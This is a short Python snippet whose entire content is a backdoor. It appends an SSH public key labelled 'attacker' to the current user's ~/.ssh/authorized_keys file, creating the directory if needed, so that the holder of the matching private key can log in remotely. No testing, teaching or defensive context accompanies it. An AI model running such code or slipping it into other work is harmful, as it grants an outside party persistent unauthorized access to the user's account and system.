import pathlib
keys = pathlib.Path("~/.ssh/authorized_keys").expanduser()
keys.parent.mkdir(exist_ok=True)
keys.open("a").write("ssh-ed25519 AAAAC3Nz attacker\n")
